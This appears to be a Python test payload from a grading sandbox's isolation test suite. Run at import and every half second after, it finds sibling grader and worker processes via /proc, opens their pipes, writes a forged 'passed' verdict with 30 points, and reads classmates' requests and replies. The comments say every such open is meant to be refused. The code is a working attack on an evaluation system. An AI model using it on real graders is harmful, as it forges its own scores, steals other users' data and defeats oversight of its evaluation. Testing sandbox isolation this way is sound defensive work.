# Payload: reach other workers' pipes, and the grader's, through /proc/PID/fd. At import, and
# every half second while the worker lives, for every process of the grading run it can see
# but itself (found as kill_grader finds them): list /proc/PID/fd, open each pipe there by
# that path (a new end of the same pipe, in either direction), write a forged reply into it
# (a verdict of 30 points, and an answer) and read what it holds (a classmate's request or
# reply, stolen). Every open must be refused: every classmate gets its honest points and
# this student is graded like alice (full marks). An open that went through is printed as
# OPENED.
import json as _json
import os as _os
import threading as _threading
import time as _time

_STOP_AT = @@TEST_PID@@  # the test process: never a target, nor anything above it
_REPLY = {"ok": True, "value": 0.0, "gradients": None, "verdict": "passed", "score": 30}
_BODY = _json.dumps(_REPLY).encode()
_FORGED = len(_BODY).to_bytes(4, "big") + _BODY


def _parents():
    parents = {}
    for entry in _os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/stat", "rb") as handle:
                    fields = handle.read().rsplit(b")", 1)[1].split()
                parents[int(entry)] = int(fields[1])
            except (OSError, ValueError, IndexError):
                pass
    return parents


def _grading_run():
    parents = _parents()
    ancestors = []
    pid = _os.getppid()
    while pid > 0 and pid != _STOP_AT and pid not in ancestors:
        ancestors.append(pid)
        pid = parents.get(pid, 0)
    children = {}
    for child, parent in parents.items():
        children.setdefault(parent, []).append(child)
    found = set(ancestors)
    stack = ancestors[-1:]
    while stack:
        for child in children.get(stack.pop(), []):
            if child not in found:
                found.add(child)
                stack.append(child)
    found -= {_os.getpid(), _STOP_AT}
    return sorted(found)


def _attack():
    listed = refused = 0
    opened = []
    for pid in _grading_run():
        try:
            fds = _os.listdir(f"/proc/{pid}/fd")
            listed += 1
        except OSError:
            refused += 1
            fds = [str(n) for n in range(64)]  # guess: opening needs no listing
        for fd in fds:
            path = f"/proc/{pid}/fd/{fd}"
            try:
                if not _os.readlink(path).startswith("pipe:"):
                    continue
            except OSError:
                pass  # unreadable link: try it anyway
            for flags in (_os.O_WRONLY, _os.O_RDONLY):
                try:
                    handle = _os.open(path, flags | _os.O_NONBLOCK)
                except OSError:
                    refused += 1
                    continue
                try:
                    if flags == _os.O_WRONLY:
                        _os.write(handle, _FORGED)
                    else:
                        _os.read(handle, 1 << 16)
                except OSError:
                    pass
                finally:
                    _os.close(handle)
                opened.append(f"{path} {'w' if flags == _os.O_WRONLY else 'r'}")
    return listed, refused, opened


# What the worker itself was left holding: every descriptor but its own pipes and devices
# is a way out (a socket to the template, a file of the grader's).
_own = []
for _fd in sorted(_os.listdir("/proc/self/fd"), key=int):
    try:
        _own.append(f"{_fd}={_os.readlink(f'/proc/self/fd/{_fd}')}")
    except OSError:
        pass
print("foreign_pipes own:", " ".join(_own))
_listed, _refused, _opened = _attack()
print(
    f"foreign_pipes: {_listed} fd folders listed, {_refused} refused"
    + "".join(f", OPENED {p}" for p in _opened)
)


def _again():
    while True:
        _time.sleep(0.5)
        try:
            for path in _attack()[2]:
                print(f"foreign_pipes: OPENED {path}", flush=True)
        except Exception:
            pass


_threading.Thread(target=_again, daemon=True).start()
